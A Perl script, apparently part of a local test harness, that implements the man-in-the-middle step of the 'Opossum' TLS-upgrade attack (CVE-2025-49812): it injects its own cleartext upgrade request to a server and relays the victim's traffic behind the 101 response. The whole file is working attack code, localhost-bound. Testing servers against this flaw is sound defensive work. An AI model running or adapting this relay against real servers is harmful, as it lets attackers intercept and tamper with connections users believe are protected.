#!/usr/bin/perl
# Somebody between a client and a server who knows how to upgrade (CVE-2025-49812, "Opossum"): for each client that connects
# he sends a request of his own to the server, in the clear, which asks for TLS; behind the server's 101 he passes on what the
# two say to each other. A client that wants TLS from the start is the victim; one that offers no ALPN looks like a client
# that asked for it, so this also brings TLS clients that cannot ask to the other side of an upgrade.
#
#     opossum.pl (--listen UNIX-SOCKET | --listen-port N) --port N [--request LINE] [--host NAME] [--log FILE]
#
# The log has a line for each connection: what the server's 101 was, and how many bytes went in each direction behind it.
use strict;
use warnings;

use Getopt::Long qw(GetOptions);
use IO::Select;
use IO::Socket::INET;
use IO::Socket::UNIX;

my %option = (request => 'OPTIONS * HTTP/1.1', host => 'localhost');
GetOptions(\%option, 'listen=s', 'listen-port=i', 'port=i', 'request=s', 'host=s', 'log=s') or die "opossum.pl: wrong options\n";
$SIG{PIPE} = 'IGNORE';
$SIG{CHLD} = 'IGNORE';
alarm 80;

my $listener =
    defined $option{listen}
    ? IO::Socket::UNIX->new(Local => "$option{listen}.new", Listen => 20)
    : IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => $option{'listen-port'}, Listen => 20, ReuseAddr => 1);
die "opossum.pl: cannot listen: $!\n" unless $listener;
# The name appears when connections are taken.
!defined $option{listen} or rename "$option{listen}.new", $option{listen} or die "opossum.pl: $option{listen}: $!\n";

sub note {
    open my $log, '>>', $option{log} // return;
    syswrite $log, "@_\n";
}

sub write_all {
    my ($socket, $bytes) = @_;
    while (length $bytes) {
        my $count = syswrite $socket, $bytes or return 0;
        substr $bytes, 0, $count, '';
    }
    return 1;
}

sub serve {
    my ($client) = @_;
    my $server = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => $option{port}) or return note("cannot connect");
    write_all($server, "$option{request}\r\nHost: $option{host}\r\nConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n");
    my $head = '';
    until ($head =~ /\r\n\r\n/) {
        sysread $server, $head, 1, length $head or return note('closed');
    }
    my ($status) = $head =~ /^(.*)\r/;
    return note($status) if $status !~ / 101 /;
    my %passed = (up => 0, down => 0);
    my $open = IO::Select->new($client, $server);
    while ($open->count) {
        for my $from ($open->can_read(30)) {
            my ($to, $way) = $from == $client ? ($server, 'up') : ($client, 'down');
            my $count = sysread $from, my $bytes, 16384;
            if ($count) {
                write_all($to, $bytes);
                $passed{$way} += $count;
            } else {
                $open->remove($from);
                shutdown $to, 1;
            }
        }
    }
    note("$status, $passed{up} bytes up, $passed{down} down");
}

while (my $client = $listener->accept) {
    next if fork;
    alarm 60;
    serve($client);
    exit;
}
